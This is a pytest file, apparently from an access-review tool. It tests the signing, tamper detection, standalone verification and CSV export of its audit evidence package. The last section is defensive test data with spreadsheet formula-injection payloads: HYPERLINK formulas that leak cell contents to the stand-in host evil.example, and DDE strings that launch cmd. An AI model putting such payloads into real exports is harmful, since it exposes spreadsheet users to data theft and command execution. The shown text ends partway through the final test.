"""The evidence package: what it holds, that a change to any of its files is named, that an
auditor checks it without Attest, that no CSV cell runs as a formula, the two commands, the
download, and that a large campaign exports in bounded memory.

Nothing here talks to AWS: remediations are left planned by closing, and the one carried out is
written with the ORM as the remediation task would have left it.
"""

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import tracemalloc
import zipfile
from datetime import UTC, date, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.db.models import ProtectedError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from audit import trail
from audit.models import AuditEvent, canonical_json
from config import dump
from inventory.models import AwsAccount, Principal, Right
from reviews import evidence, tallies, verify_package
from reviews.decide import Choice, close, decide, decide_many, sign_off
from reviews.launch import launch, new_campaign
from reviews.models import Campaign, Decision, Remediation, ReviewItem, SignOff
from reviews.remediate import except_
from tests import factories
from tests.reviews.builders import (
    add_principal,
    audit_mark,
    definition,
    events_since,
    launched,
    settled,
    shown_sha256,
)

PASSWORD = "correct horse battery staple"  # every factory user's
REASON = "Confirmed with the team lead."
STATEMENT = "I attest that every right in scope was reviewed by its owner."
REQUEST_ID = "7f1c2e9a-0b3d-4c5e-8f6a-1b2c3d4e5f60"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Far below what the large campaign's package holds uncompressed (about 30 MB).
MEMORY_BOUND = 8 * 1024 * 1024


# Helpers ----------------------------------------------------------------------------------------


def export(campaign, by=None, language=None) -> bytes:
    stream = io.BytesIO()
    evidence.build(campaign, stream, by=by, language=language)
    return stream.getvalue()


def members(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def problems(package: bytes) -> list[str]:
    return evidence.verify(io.BytesIO(package))


def rows(files: dict[str, bytes], name: str) -> list[dict]:
    text = files[name].decode()
    if name.endswith(".csv"):
        return list(csv.DictReader(io.StringIO(text, newline="")))
    if name.endswith(".json"):
        return json.loads(text)
    return [json.loads(line) for line in text.splitlines()]


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def manifest_text(manifest: dict) -> bytes:
    return (json.dumps(manifest, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode()


def with_hashes(files: dict[str, bytes], *, sign: bool) -> dict[str, bytes]:
    """The files with manifest.json listing their hashes as they are now; signed again with
    the installation's key (what only someone holding the key can do) or left as it was."""
    manifest = json.loads(files["manifest.json"])
    manifest["files"] = {
        name: {"sha256": sha256(data), "bytes": len(data)}
        for name, data in files.items()
        if name != "manifest.json"
    }
    if sign:
        unsigned = {key: value for key, value in manifest.items() if key != "signature"}
        manifest["signature"]["value"] = trail.sign(canonical_json(unsigned).encode())
    return {**files, "manifest.json": manifest_text(manifest)}


def events_of(files) -> list[dict]:
    return rows(files, "audit/events.jsonl")


def events_text(events: list[dict]) -> bytes:
    return "".join(json.dumps(event, ensure_ascii=False) + "\n" for event in events).encode()


def fresh(item) -> ReviewItem:
    return ReviewItem.objects.select_related("campaign").get(pk=item.pk)


def state_of(campaign) -> dict:
    """Everything an export must leave as it was."""
    return {
        "campaign": list(Campaign.objects.filter(pk=campaign.pk).values()),
        "items": list(campaign.items.order_by("pk").values()),
        "decisions": list(Decision.objects.order_by("pk").values()),
        "remediations": list(Remediation.objects.order_by("pk").values()),
        "signoffs": list(SignOff.objects.order_by("pk").values()),
    }


def copy_items(item: ReviewItem, count: int) -> None:
    """`count` copies of the item, each with an id of its own, in one statement."""
    columns = ", ".join(
        field.column
        for field in ReviewItem._meta.concrete_fields
        if field.column not in ("id", "uuid")
    )
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO reviews_reviewitem (uuid, {columns}) "  # noqa: S608 (model's columns)
            f"SELECT gen_random_uuid(), {columns} FROM reviews_reviewitem "
            "CROSS JOIN generate_series(1, %s) WHERE id = %s",
            [count, item.pk],
        )
    tallies.recount(item.campaign_id)


@pytest.fixture
def signed(campaign, reviewer, manager, items):
    """The campaign decided (one item twice, two in bulk), closed, one revocation carried out
    and verified, the others excepted, and signed off."""
    decide(items[0], reviewer, Choice("keep", REASON), seconds_to_decide=42)
    decide(items[1], reviewer, Choice("keep", REASON), seconds_to_decide=30)
    decide(fresh(items[1]), reviewer, Choice("revoke", REASON))
    decide_many([fresh(items[2]), fresh(items[3])], reviewer, Choice("revoke", REASON))
    close(campaign, by=manager)
    done = campaign.remediations.get(item=items[1])
    Remediation.objects.filter(pk=done.pk).update(
        state=Remediation.State.VERIFIED,
        before={"AttachedManagedPolicies": ["arn:aws:iam::aws:policy/AdministratorAccess"]},
        after_state={"AttachedManagedPolicies": []},
        calls=[
            {
                "operation": "DetachRolePolicy",
                "params": {"RoleName": "payments-prod-role-0"},
                "request_id": REQUEST_ID,
                "at": timezone.now().isoformat(),
            }
        ],
        applied_at=timezone.now(),
        verified_at=timezone.now(),
    )
    settled(campaign, manager)
    sign_off(campaign, manager, PASSWORD, STATEMENT)
    campaign.refresh_from_db()
    return campaign


# What the package holds -------------------------------------------------------------------------


def test_the_population_is_every_item_as_shown_with_the_runs_behind_it(signed, manager):
    files = members(export(signed, by=manager))

    expected = {str(uuid) for uuid in signed.items.values_list("uuid", flat=True)}
    as_csv, as_lines = rows(files, "population/items.csv"), rows(files, "population/items.jsonl")
    assert {row["item"] for row in as_csv} == {row["item"] for row in as_lines} == expected
    for row in as_lines:
        item = ReviewItem.objects.get(uuid=row["item"])
        assert row["facts"] == item.facts
        assert row["shown_sha256"] == shown_sha256(item)
        assert (row["principal_arn"], row["right_key"]) == (item.principal_arn, item.right_key)
        assert row["run"] == str(item.run.uuid)
    runs = rows(files, "population/collection_runs.json")
    assert {run["run"] for run in runs} == {
        str(u) for u in signed.runs.values_list("uuid", flat=True)
    }
    assert sum(run["items"] for run in runs) == len(expected)
    for run in runs:
        assert {"caller_identity", "api_calls", "entity_counts", "raw_sha256"} <= run.keys()
        assert run["entity_counts"] == {"roles": 3}


def test_every_decision_and_remediation_is_there_with_who_when_why(signed, manager, items):
    files = members(export(signed, by=manager))

    decisions = rows(files, "decisions.jsonl")
    assert len(decisions) == len(rows(files, "decisions.csv")) == Decision.objects.count()
    twice = [row for row in decisions if row["item"] == str(items[1].uuid)]
    assert [(row["decision"], row["current"]) for row in twice] == [
        ("revoke", True),
        ("keep", False),
    ]
    [first] = [row for row in decisions if row["item"] == str(items[0].uuid)]
    assert (first["decided_by"], first["reason"], first["seconds_to_decide"]) == (
        "rita.reviewer",
        REASON,
        42,
    )
    assert {row["bulk_size"] for row in decisions if row["item"] == str(items[2].uuid)} == {2}
    shown = {row["item"]: row["shown_sha256"] for row in rows(files, "population/items.jsonl")}
    assert all(row["shown_sha256"] == shown[row["item"]] for row in decisions)

    remediations = rows(files, "remediations.jsonl")
    assert len(remediations) == signed.remediations.count()
    [verified] = [row for row in remediations if row["verified"]]
    assert verified["aws_request_ids"] == REQUEST_ID
    assert verified["before"] == {
        "AttachedManagedPolicies": ["arn:aws:iam::aws:policy/AdministratorAccess"]
    }
    assert verified["after"] == {"AttachedManagedPolicies": []}
    exceptions = rows(files, "exceptions.csv")
    assert len(exceptions) == signed.remediations.filter(excepted_at__isnull=False).count() > 0
    assert {row["excepted_by"] for row in exceptions} == {"max.manager"}
    assert {row["reason"] for row in exceptions} == {"Carried out outside Attest."}


def test_a_signed_off_campaign_is_final_with_its_attestation(signed, manager):
    files = members(export(signed, by=manager))

    manifest = json.loads(files["manifest.json"])
    assert manifest["interim"] is False
    assert manifest["campaign"]["uuid"] == str(signed.uuid)
    assert manifest["generated_by"] == "max.manager"
    assert set(manifest["files"]) == set(files) - {"manifest.json"}
    signoff = json.loads(files["signoff.json"])
    assert (signoff["signed_off"], signoff["signed_by"], signoff["statement"]) == (
        True,
        "max.manager",
        STATEMENT,
    )
    assert signoff["decisions_sha256"] == signed.signoff.decisions_sha256
    [report] = rows(files, "reports/signoff.csv")
    assert (report["statement"], report["decisions_unchanged_since_signoff"]) == (STATEMENT, "true")
    assert report["unsettled"] == "0"
    summary = files["summary.html"].decode()
    assert "Final: signed off by max.manager" in summary
    assert STATEMENT in summary
    assert not re.search(r"<(script|link|img)\b|\bsrc=|https?://", summary)  # self-contained
    assert "Final: signed off by max.manager" in files["README.md"].decode()


def test_before_sign_off_the_package_is_interim_and_says_so(campaign, auditor):
    package = export(campaign, by=auditor)
    files = members(package)

    assert problems(package) == []
    assert json.loads(files["manifest.json"])["interim"] is True
    assert json.loads(files["signoff.json"])["signed_off"] is False
    assert "INTERIM" in files["README.md"].decode()
    assert "Interim: the campaign is active and not signed off" in files["summary.html"].decode()
    [report] = rows(files, "reports/signoff.csv")
    assert (report["interim"], report["signed_by"], report["undecided"]) == ("true", "", "12")


def test_the_reports_count_what_auditors_ask_for(signed, manager):
    files = members(export(signed, by=manager))

    composition = rows(files, "reports/composition.json")
    assert sum(row["items"] for row in composition) == signed.items.count() == 12
    assert sum(row["privileged"] for row in composition) == 6
    assert {(row["account_id"], row["right_kind"]) for row in composition} == {
        (account_id, kind)
        for account_id in ("111122223333", "444455556666")
        for kind in ("inline_policy", "managed_policy")
    }
    status = {row["reviewer"]: row for row in rows(files, "reports/status.json")}
    rita = status["rita.reviewer"]
    assert (rita["items"], rita["decided"], rita["decisions_made"]) == (6, 6, 5)
    assert (rita["median_seconds_to_decide"], rita["largest_bulk"]) == (36, 2)
    assert rita["decided_by_attest"] == 2
    assert (status["(nobody)"]["items"], status["(nobody)"]["decided_by_attest"]) == (6, 6)
    assert rows(files, "reports/status.csv")[0].keys() == set(evidence.STATUS_COLUMNS)
    remediation = rows(files, "reports/remediation_status.json")
    assert sum(row["remediations"] for row in remediation) == signed.remediations.count()
    assert sum(row["verified"] for row in remediation) == 1
    assert sum(row["open"] for row in remediation) == 0


def test_exclusions_name_each_principal_of_the_runs_left_out_and_why(account, manager):
    Principal.objects.filter(account=account).update(tags={"env": "prod"})
    prod = {"env": "prod"}
    add_principal(account, "alice", kind=Principal.Kind.USER, tags=prod)
    add_principal(account, "dev-batch", tags={"env": "dev"})
    add_principal(account, "reader", tags=prod)  # S3 read only: nothing privileged
    factories.PrincipalFactory(account=account, name="empty", tags=prod)
    run = account.current_run
    # Neither gone before the run nor first seen after it is the run's.
    factories.PrincipalFactory(account=account, name="gone", tags=prod, removed_run=run)
    later = factories.CollectionRunFactory(
        account=account, started_at=run.started_at + timedelta(hours=1)
    )
    factories.PrincipalFactory(account=account, name="later", tags=prod, first_seen_run=later)
    campaign = launched(
        manager,
        definition=definition(
            manager,
            accounts=[account],
            include_users=False,
            privileged_only=True,
            tag_filters=prod,
        ),
    )

    files = members(export(campaign))

    excluded = {
        row["principal_name"]: row["reason"] for row in rows(files, "reports/exclusions.json")
    }
    assert excluded == {
        "alice": "type not in scope (the campaign reviews: group, role)",
        "dev-batch": "tags do not match the campaign's tag filters (env=prod)",
        "empty": "holds no right",
        "reader": "no privileged right, and the campaign reviews privileged rights only",
    }
    as_csv = rows(files, "reports/exclusions.csv")
    assert {row["principal_name"]: row["reason"] for row in as_csv} == excluded
    assert {row["run"] for row in as_csv} == {str(run.uuid)}


def test_the_package_names_how_long_to_keep_it(campaign, settings):
    manifest = json.loads(members(export(campaign))["manifest.json"])
    today = timezone.now().astimezone(UTC).date()
    assert manifest["retain_until"] == today.replace(year=today.year + 7).isoformat()

    settings.EVIDENCE_RETENTION_YEARS = 10
    manifest = json.loads(members(export(campaign))["manifest.json"])
    assert manifest["retain_until"] == today.replace(year=today.year + 10).isoformat()
    assert evidence.retain_until(date(2028, 2, 29)) == date(2038, 2, 28)


def test_nothing_deletes_a_campaigns_evidence(signed):
    with pytest.raises(ProtectedError):
        Campaign.objects.filter(pk=signed.pk).delete()
    with pytest.raises(ProtectedError):
        signed.items.all().delete()
    with transaction.atomic(), pytest.raises(DatabaseError):
        AuditEvent.objects.for_object("reviews.campaign", signed.pk).delete()
    assert signed.items.count() == 12


def test_the_audit_extract_runs_unbroken_from_the_campaigns_first_event(campaign, outsider):
    before = AuditEvent.objects.filter(
        id__lt=AuditEvent.objects.for_object("reviews.campaign", campaign.pk)
        .order_by("id")
        .values_list("id", flat=True)
        .first()
    )
    with trail.context(actor=outsider):
        unrelated = trail.record("auth.login", outsider)
    newest = audit_mark()

    files = members(export(campaign))

    events = events_of(files)
    assert (events[0]["action"], events[0]["object_id"]) == ("campaign.created", str(campaign.pk))
    assert [event["id"] for event in events] == list(
        AuditEvent.objects.filter(id__gte=events[0]["id"], id__lte=newest)
        .order_by("id")
        .values_list("id", flat=True)
    )
    assert events[-1]["id"] == newest
    assert unrelated.pk in {event["id"] for event in events}  # every link, whatever it is about
    assert not {event["id"] for event in events} & set(before.values_list("id", flat=True))
    for event in events:
        assert event["hash"] == AuditEvent.objects.get(pk=event["id"]).hash
    extract = json.loads(files["audit/checkpoints.json"])
    assert extract["checkpoints"][-1]["last_event_id"] == newest  # signed as it was exported
    assert extract["events_before"] == before.count()


# Any change shows -------------------------------------------------------------------------------


def test_one_changed_byte_in_any_file_is_named(signed):
    package = export(signed)
    files = members(package)
    assert problems(package) == []

    for name, data in files.items():
        changed = bytearray(data or b"\n")
        changed[len(changed) // 2] ^= 0x01
        found = problems(zipped({**files, name: bytes(changed)}))
        assert found, f"a changed byte in {name} went unnoticed"
        assert all(problem.startswith(f"{name}: ") for problem in found), found


def test_a_file_added_or_removed_is_named(signed):
    files = members(export(signed))

    added = zipped({**files, "population/notes.txt": b"nothing to see"})
    assert problems(added) == ["population/notes.txt: in the ZIP but not in the manifest"]
    removed = zipped({name: data for name, data in files.items() if name != "decisions.csv"})
    assert problems(removed) == ["decisions.csv: listed in the manifest but missing from the ZIP"]
    unsigned = zipped({name: data for name, data in files.items() if name != "manifest.json"})
    assert problems(unsigned) == ["manifest.json: missing from the ZIP"]
    stream = io.BytesIO(zipped(files))
    with zipfile.ZipFile(stream, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("decisions.csv", b"item,decision\r\n")
    assert problems(stream.getvalue()) == ["decisions.csv: more than once in the ZIP"]
    assert problems(b"not a zip") == [
        "the package: not a readable ZIP archive (File is not a zip file)"
    ]


def test_a_manifest_changed_without_the_key_fails_its_signature(signed, settings):
    files = members(export(signed))
    changed = files["population/items.csv"].replace(
        b"payments-prod-role-0", b"payments-prod-role-9"
    )

    forged = zipped(with_hashes({**files, "population/items.csv": changed}, sign=False))

    [problem] = problems(forged)
    assert problem.startswith("manifest.json: its signature does not match")
    settings.AUDIT_SIGNING_KEY = "the key of another installation"
    [problem] = problems(zipped(files))
    assert problem.startswith("manifest.json: its signature does not match")
    assert f"this installation's is {trail.key_id()}" in problem


def test_an_audit_trail_changed_before_the_export_is_named_by_event(signed):
    files = members(export(signed))
    events = events_of(files)
    middle = len(events) // 2

    def exported(events):
        return zipped(with_hashes({**files, "audit/events.jsonl": events_text(events)}, sign=True))

    edited = [dict(event) for event in events]
    edited[middle]["actor_name"] = "mallory"
    assert problems(exported(edited)) == [
        f"audit/events.jsonl: event #{events[middle]['id']}: "
        "its content was changed after it was written"
    ]
    removed = events[:middle] + events[middle + 1 :]
    assert problems(exported(removed)) == [
        f"audit/events.jsonl: event #{events[middle + 1]['id']} does not follow event "
        f"#{events[middle - 1]['id']}: an event was deleted, inserted or rewritten before it"
    ]
    # Rewriting the newest event with a hash to match is caught by the checkpoint signing it.
    rewritten = [dict(event) for event in events]
    rewritten[-1]["actor_name"] = "mallory"
    content = {k: v for k, v in rewritten[-1].items() if k not in ("id", "hash")}
    rewritten[-1]["hash"] = sha256(canonical_json(content).encode())
    [problem] = problems(exported(rewritten))
    assert problem.startswith(
        f"audit/events.jsonl: event #{events[-1]['id']} differs from checkpoint"
    )


# In the reader's language -----------------------------------------------------------------------

# What people read; every other file is for programs, and the same in every language.
READ_BY_PEOPLE = {"README.md", "VERIFY.md", "summary.html"}


def test_a_japanese_package_reads_in_japanese_and_holds_the_same_data(signed, manager):
    english = members(export(signed, by=manager))
    package = export(signed, by=manager, language="ja")
    japanese = members(package)

    assert problems(package) == []
    summary = japanese["summary.html"].decode()
    assert '<html lang="ja">' in summary
    assert "<h2>キャンペーン</h2>" in summary
    assert "<h2>このパッケージの確認方法</h2>" in summary
    signed_at = signed.signoff.signed_at.astimezone(UTC)
    assert f"確定版: max.manager が {signed_at:%Y/%m/%d %H:%M} (UTC) に承認しました。" in summary
    assert "<td>維持</td>" in summary
    assert "<th>レビュアー</th>" in summary
    assert "<td>取り消し</td><td>検証済み</td>" in summary  # the remediation's names, translated
    assert STATEMENT in summary  # what people wrote stays as they wrote it
    assert "Final: signed off" not in summary
    assert "Population" not in summary
    assert f"Final: signed off by max.manager on {signed_at:%Y-%m-%d %H:%M} UTC." in (
        english["summary.html"].decode()
    )
    readme = japanese["README.md"].decode()
    assert readme.startswith(f"# 証跡パッケージ: {signed.name}\n")
    assert "確定版: max.manager が" in readme
    guide = japanese["VERIFY.md"].decode()
    assert guide.startswith("# Attest を使わずにこのパッケージを確認する方法\n")
    code = re.compile(r"```(?:sh|python)\n.*?```", re.DOTALL)
    assert code.findall(guide) == code.findall(english["VERIFY.md"].decode())

    # Byte for byte, but for two files: the English package's export is itself in the audit
    # trail, so the Japanese package's extract runs one event (and checkpoint) further; and each
    # manifest lists its own package's files.
    assert set(japanese) == set(english)
    differ = {"manifest.json", "audit/events.jsonl", "audit/checkpoints.json"}
    same = sorted(set(english) - READ_BY_PEOPLE - differ)
    assert len(same) == 20
    assert [name for name in same if japanese[name] != english[name]] == []
    assert japanese["audit/events.jsonl"].startswith(english["audit/events.jsonl"])
    assert [event["action"] for event in events_of(japanese)[len(events_of(english)) :]] == [
        "evidence.exported"
    ]
    manifests = [json.loads(files["manifest.json"]) for files in (english, japanese)]
    assert manifests[0].keys() == manifests[1].keys()
    assert manifests[1]["campaign"] == manifests[0]["campaign"]


def test_python_writes_the_same_rows_as_postgresql_where_there_is_no_copy(
    signed, manager, monkeypatch
):
    """SQLite (the demo) has no COPY: Python writes the rows there, from the same querysets.
    Here it writes them on PostgreSQL, beside PostgreSQL's own."""
    # Text that CSV must quote, and COPY escape: commas, quotes, line breaks, tabs, backslashes.
    odd = signed.items.order_by("pk")[0]
    ReviewItem.objects.filter(pk=odd.pk).update(
        principal_name='a, "b"\nc\r\td\\e\x01', right_label="=1+1, ünïcode 🔑"
    )
    by_copy = members(export(signed, by=manager))
    monkeypatch.setattr(dump, "by_copy", lambda: False)
    package = export(signed, by=manager)
    by_python = members(package)

    assert problems(package) == []
    written = [
        name
        for name in by_copy
        if name.endswith((".csv", ".jsonl")) and not name.startswith("reports/")
    ]
    assert sorted(written) == [
        "audit/events.jsonl",
        "decisions.csv",
        "decisions.jsonl",
        "exceptions.csv",
        "exceptions.jsonl",
        "population/items.csv",
        "population/items.jsonl",
        "remediations.csv",
        "remediations.jsonl",
    ]
    for name in written:
        ours, theirs = read_rows(by_python, name), read_rows(by_copy, name)
        if name == evidence.EVENTS:  # the first export is in the second one's extract
            assert [event["action"] for event in ours[len(theirs) :]] == ["evidence.exported"]
            ours = ours[: len(theirs)]
        assert ours == theirs, name
        assert len(ours) > 0, name
    for files in (by_copy, by_python):
        [line] = [r for r in rows(files, "population/items.jsonl") if r["item"] == str(odd.uuid)]
        [cells] = [r for r in rows(files, "population/items.csv") if r["item"] == str(odd.uuid)]
        assert line["principal_name"] == cells["principal_name"] == 'a, "b"\nc\r\td\\e\x01'
        assert (line["right_label"], cells["right_label"]) == (
            "=1+1, ünïcode 🔑",
            "'=1+1, ünïcode 🔑",
        )


ON_SQLITE = """
import io, json, sys
import django
django.setup()
from django.core.management import call_command
from django.db import connection
from reviews import evidence
from reviews.decide import Choice, close, decide
from reviews.models import Campaign

call_command("migrate", verbosity=0)
call_command("load_demo", stdout=io.StringIO())
campaign = Campaign.objects.get()
for item in campaign.items.filter(reviewer__isnull=False).order_by("pk")[:3]:
    decide(item, item.reviewer, Choice("revoke", "=no longer needed"))
close(campaign, by=campaign.owner)
with open(sys.argv[1], "wb") as out:
    evidence.build(campaign, out, by=campaign.owner)
print(json.dumps({
    "vendor": connection.vendor,
    "items": campaign.items.count(),
    "problems": evidence.verify(sys.argv[1]),
}))
"""


def test_the_demo_on_sqlite_exports_a_package_that_verifies(tmp_path):
    target = tmp_path / "evidence.zip"
    environment = {
        name: value
        for name, value in os.environ.items()
        if name not in ("DATABASE_URL", "CELERY_BROKER_URL", "SECRET_KEY")
    }
    result = subprocess.run(
        [sys.executable, "-c", ON_SQLITE, str(target)],
        cwd=Path(__file__).resolve().parents[2],
        env={
            **environment,
            "DJANGO_SETTINGS_MODULE": "config.settings",
            "DEBUG": "true",
            "VAR_DIR": str(tmp_path),
        },
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    made = json.loads(result.stdout.splitlines()[-1])
    assert made["vendor"] == "sqlite"
    assert made["problems"] == []  # checked with the key it was signed with

    files = members(target.read_bytes())
    assert len(rows(files, "population/items.jsonl")) == len(rows(files, "population/items.csv"))
    assert len(rows(files, "population/items.jsonl")) == made["items"] > 0
    # Three decisions of the reviewer's; the rest Attest's at the close.
    decisions = rows(files, "decisions.jsonl")
    assert len(decisions) == made["items"]
    mine = [row for row in decisions if not row["made_by_attest"]]
    assert [(row["decision"], row["current"]) for row in mine] == [("revoke", True)] * 3
    assert {row["reason"] for row in mine} == {"=no longer needed"}
    as_csv = [row for row in rows(files, "decisions.csv") if row["made_by_attest"] == "false"]
    assert {(row["reason"], row["current"]) for row in as_csv} == {("'=no longer needed", "true")}
    assert all(
        re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:.]+\+00:00", row["decided_at"]) for row in decisions
    )
    remediations = rows(files, "remediations.jsonl")
    assert len(remediations) >= 3
    assert {(row["verified"], row["aws_request_ids"]) for row in remediations} == {(False, "")}


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("failing", ["_remediations", "_runs"])
def test_an_export_that_fails_says_why_and_records_nothing(campaign, manager, failing, monkeypatch):
    def broken(builder):
        raise DatabaseError(f"{failing} failed")

    monkeypatch.setattr(evidence._Builder, failing, broken)
    exported = AuditEvent.objects.filter(action="evidence.exported")

    with pytest.raises(DatabaseError, match=f"{failing} failed"):
        export(campaign, by=manager)

    assert not exported.exists()
    monkeypatch.undo()
    export(campaign, by=manager)  # and the next one works
    assert exported.count() == 1


class _DiskFull(io.BytesIO):
    """A file that takes `room` bytes, then fails as a full disk does."""

    def __init__(self, room: int):
        super().__init__()
        self.room = room

    def write(self, data) -> int:
        if self.tell() + len(data) > self.room:
            raise OSError(errno.ENOSPC, "No space left on device")
        return super().write(data)


@pytest.mark.django_db(transaction=True)
def test_an_export_to_a_full_disk_fails_with_the_disks_error_and_records_nothing(campaign, manager):
    exported = AuditEvent.objects.filter(action="evidence.exported")

    with pytest.raises(OSError, match="No space left on device"):
        evidence.build(campaign, _DiskFull(room=8_000), by=manager)

    assert not exported.exists()
    package = export(campaign, by=manager)  # and the next one works
    assert problems(package) == []
    assert exported.count() == 1
    assert len(package) > 8_000  # the disk was full in the middle of the package


@pytest.mark.django_db(transaction=True)
def test_a_decision_committed_during_the_export_is_in_none_of_its_files(
    campaign, reviewer, manager, items, monkeypatch
):
    """The remediations, the decisions and the reports are read on a connection of their own,
    beside the population; both read the database as it was when the export began."""
    decide(items[0], reviewer, Choice("keep", REASON))
    committed = threading.Event()
    beside_threads = []
    beside, population = evidence._Builder._beside, evidence._Builder._items

    def beside_after_the_decision(builder, aside):
        beside_threads.append(threading.current_thread())
        assert committed.wait(timeout=30)
        return beside(builder, aside)

    def decide_meanwhile():
        try:
            decide(fresh(items[1]), reviewer, Choice("revoke", REASON))
        finally:
            connection.close()

    def population_after_the_decision(builder):
        reviewer_elsewhere = threading.Thread(target=decide_meanwhile)
        reviewer_elsewhere.start()
        reviewer_elsewhere.join()
        committed.set()
        return population(builder)

    monkeypatch.setattr(evidence._Builder, "_beside", beside_after_the_decision)
    monkeypatch.setattr(evidence._Builder, "_items", population_after_the_decision)
    package = export(campaign, by=manager)
    files = members(package)

    assert Decision.objects.filter(item__campaign=campaign).count() == 2  # it was committed
    assert len(beside_threads) == 1
    assert beside_threads[0] is not threading.current_thread()
    assert [row["item"] for row in rows(files, "decisions.jsonl")] == [str(items[0].uuid)]
    manifest = json.loads(files["manifest.json"])
    assert (manifest["counts"]["decided"], manifest["counts"]["decisions"]) == (1, 1)
    status = {row["reviewer"]: row for row in rows(files, "reports/status.json")}
    assert (status["rita.reviewer"]["decided"], status["rita.reviewer"]["decisions_made"]) == (1, 1)
    assert rows(files, "reports/signoff.json")[0]["decided"] == 1
    population_rows = {row["item"]: row for row in rows(files, "population/items.jsonl")}
    assert population_rows[str(items[1].uuid)]["decision"] == ""
    assert problems(package) == []


def read_rows(files: dict[str, bytes], name: str) -> list:
    """A file's rows, with each CSV cell of JSON read as JSON: its spacing and the order of
    its keys are the writer's."""
    found = rows(files, name)
    if name.endswith(".csv"):
        return [
            {
                key: json.loads(value) if value[:1] in ("{", "[") else value
                for key, value in row.items()
            }
            for row in found
        ]
    return found


# Checking it without Attest ---------------------------------------------------------------------


def test_the_script_in_verify_md_checks_the_package_without_attest(signed, tmp_path, settings):
    package = export(signed)
    folder = tmp_path / "package"
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        archive.extractall(folder)
    guide = (folder / "VERIFY.md").read_text()
    script = re.search(r"```python\n(.*?)```", guide, re.DOTALL).group(1)
    assert script == Path(verify_package.__file__).read_text()  # verbatim
    (tmp_path / "verify_package.py").write_text(script)

    def run(**env):
        # -I -S: no site-packages and no project on the path, only the standard library.
        return subprocess.run(
            [sys.executable, "-I", "-S", str(tmp_path / "verify_package.py"), str(folder)],
            capture_output=True,
            text=True,
            env={"PATH": os.environ["PATH"], **env},
            timeout=60,
        )

    holds = run()
    assert holds.returncode == 0, holds.stdout + holds.stderr
    assert "signatures not checked" in holds.stdout
    signed_run = run(AUDIT_SIGNING_KEY=settings.AUDIT_SIGNING_KEY)
    assert signed_run.returncode == 0, signed_run.stdout
    assert "signatures valid" in signed_run.stdout
    wrong_key = run(AUDIT_SIGNING_KEY="not the key")
    assert wrong_key.returncode == 1
    assert wrong_key.stdout.startswith("manifest.json: its signature does not match this key")

    decisions = folder / "decisions.csv"
    data = bytearray(decisions.read_bytes())
    data[len(data) // 2] ^= 0x01
    decisions.write_bytes(bytes(data))
    tampered = run()
    assert tampered.returncode == 1
    assert tampered.stdout == "decisions.csv: its SHA-256 does not match manifest.json\n"

    events = [json.loads(line) for line in (folder / "audit/events.jsonl").read_text().splitlines()]
    events[1]["after"] = {"note": "rewritten"}
    (folder / "audit/events.jsonl").write_bytes(events_text(events))
    chain = run().stdout.splitlines()
    assert chain[-1] == (
        f"audit/events.jsonl: event #{events[1]['id']}: "
        "its content was changed after it was written"
    )


@pytest.mark.skipif(
    not (shutil.which("sha256sum") and shutil.which("openssl") and shutil.which("bash")),
    reason="needs sha256sum, openssl and bash",
)
def test_the_commands_in_verify_md_check_hashes_and_signature(campaign, tmp_path, settings):
    folder = tmp_path / "package"
    with zipfile.ZipFile(io.BytesIO(export(campaign))) as archive:
        archive.extractall(folder)
    hashes, signature = re.findall(r"```sh\n(.*?)```", (folder / "VERIFY.md").read_text(), re.S)
    env = {**os.environ, "AUDIT_SIGNING_KEY": settings.AUDIT_SIGNING_KEY}

    checked = subprocess.run(
        ["bash", "-ec", hashes], cwd=folder, capture_output=True, text=True, env=env, timeout=60
    )
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.count(": OK") == len(
        json.loads((folder / "manifest.json").read_text())["files"]
    )
    digest = subprocess.run(
        ["bash", "-ec", signature], cwd=folder, capture_output=True, text=True, env=env, timeout=60
    )
    manifest = json.loads((folder / "manifest.json").read_text())
    assert digest.stdout.split()[-1] == manifest["signature"]["value"]


# Formula injection ------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_csv_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(start):
    assert evidence.csv_cell(f'{start}HYPERLINK("http://evil.example")') == (
        f'\'{start}HYPERLINK("http://evil.example")'
    )
    assert evidence.csv_cell(f"a{start}b") == f"a{start}b"


def test_no_cell_of_any_csv_begins_with_a_formula(account, reviewer, manager):
    AwsAccount.objects.filter(pk=account.pk).update(name="+payments-prod")
    payloads = {
        start: f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open")'
        for start in FORMULA_STARTS
    }
    for payload in payloads.values():
        principal = add_principal(account, payload, tags={"team": payload})
        Right.objects.create(
            principal=principal,
            kind=Right.Kind.INLINE_POLICY,
            key=payload,
            document=factories.S3_READ_DOCUMENT,
            first_seen_run=account.current_run,
        )
    factories.PrincipalFactory(account=account, name="@excluded", tags={"x": "=1+1"})
    draft = new_campaign(
        name="=cmd|' /C calc'!A0",
        owner=manager,
        due_date=timezone.localdate() + timedelta(days=14),
        accounts=[account],
    )
    campaign = launch(draft, by=manager)
    mine = list(campaign.items.filter(reviewer=reviewer).order_by("pk"))
    for item, start in zip(mine, "=+-@", strict=False):
        decide(item, reviewer, Choice("revoke", f"{start}SUM(1+1)*cmd|' /C calc'!A0"))
    close(campaign, by=manager)
    for remediation in campaign.remediations.all():
        except_(remediation, manager, '=HYPERLINK("http://evil.example","ok")')
    sign_off(campaign, manager, PASSWORD, "-1+1 I attest")
